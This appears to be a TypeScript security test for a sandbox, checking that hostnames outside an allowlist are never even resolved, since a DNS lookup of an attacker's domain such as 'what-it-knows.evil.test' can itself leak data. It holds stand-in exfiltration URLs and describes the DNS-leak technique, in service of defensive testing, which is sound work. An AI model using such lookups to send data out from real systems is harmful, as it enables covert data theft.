// A name is data: whoever answers for a domain reads every name below it that is looked up, granted or not.

import { attack } from '../harness/attack.ts';
import { ASK_EACH, attackNet, deniedAll } from './attacker.ts';
import { naiveFetch, refuse, runSend } from './naive-fetch.ts';
import { everyTestName, lookupBy } from './names.ts';

const asked: string[] = [];
const URLS = ['http://what-it-knows.evil.test/', 'https://more.evil.test/'];

function resolve(name: string): readonly string[] {
  if (name.endsWith('.evil.test')) asked.push(name);
  return everyTestName(name);
}

export default attack({
  title: 'a name that is not granted is not even looked up',
  harm: { kind: 'leak' },
  host: () => ({ lookup: lookupBy(resolve) }),
  async bare() {
    // Looks where the name leads, so as to refuse what is private, and refuses what is not on the list.
    const send = naiveFetch((url) => {
      const { hostname } = new URL(url);
      if (resolve(hostname).some((address) => address.startsWith('127.'))) refuse('private');
      if (hostname !== 'good.test') refuse(hostname);
    });
    const value = await runSend(ASK_EACH, send, URLS);
    return { harmed: asked.length === 2, seen: `${asked.join(' ')}: ${JSON.stringify(value)}` };
  },
  async skerry(world) {
    const ended = await attackNet(world, ASK_EACH, URLS, { outbound: ['http://good.test'] });
    return deniedAll(ended, asked.length);
  },
});
